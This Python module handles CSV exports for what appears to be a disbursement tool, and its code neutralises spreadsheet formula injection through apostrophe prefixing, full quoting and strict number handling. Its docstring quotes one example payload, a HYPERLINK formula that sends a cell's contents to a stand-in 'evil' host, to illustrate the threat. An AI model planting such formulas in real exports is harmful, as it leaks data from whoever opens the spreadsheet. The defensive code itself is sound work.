"""Every CSV Disburse writes goes through ``write_csv``: the one place formula injection is neutralised.

A spreadsheet treats a cell whose first character is ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a
formula (``=HYPERLINK("https://evil/?"&A1)`` in a bank's remittance text would run on the treasurer's desk), and
a NUL can cut a cell short. Following OWASP's CSV-injection guidance (and ASVS 1.2.10):

* a **text** cell starting with one of those characters gets a leading apostrophe, which the spreadsheet reads as
  "this is text" and does not show;
* **every** text cell is wrapped in double quotes and its double quotes doubled (RFC 4180 2.6-2.7), so a comma,
  a semicolon, a quote or a line break inside it can never start a new cell;
* **numbers stay numbers**: an ``int`` or ``Decimal`` cell is written bare (a negative amount is ``-2500``, not
  text), because it is ours, not an attacker's. A float is refused: money is never a float.

``None`` is an empty cell.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")

Cell = str | int | Decimal | bool | None


def neutralise(text: str) -> str:
    """The text as a spreadsheet will show it, never run it."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _cell(value: Cell) -> object:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return value
    if isinstance(value, Decimal):
        if not value.is_finite():
            raise ValueError(f"{value} is not a number a spreadsheet can hold")
        return _Number(value)
    if isinstance(value, float):
        raise TypeError("a float has no place in an export: pass int minor units or a Decimal")
    return neutralise(str(value))


class _Number(float):
    """A Decimal the csv module writes bare (QUOTE_NONNUMERIC leaves numbers unquoted), exactly as the Decimal."""

    text: str

    def __new__(cls, value: Decimal) -> "_Number":
        self = super().__new__(cls, value)
        self.text = format(value, "f")
        return self

    def __repr__(self) -> str:
        return self.text

    __str__ = __repr__


def write_csv(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """The table as CSV text: a header row, then one row per item; cells neutralised as the module says."""
    return "".join(csv_lines(header, rows))


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Iterator[str]:
    """The same CSV one line at a time (the header first), for exports too large to hold as one string."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")

    def line(cells: list[object]) -> str:
        out.seek(0)
        out.truncate()
        writer.writerow(cells)
        return out.getvalue()

    yield line([neutralise(h) for h in header])
    for row in rows:
        if len(row) != len(header):
            raise ValueError(f"a row of {len(row)} cells under a header of {len(header)}")
        yield line([_cell(v) for v in row])
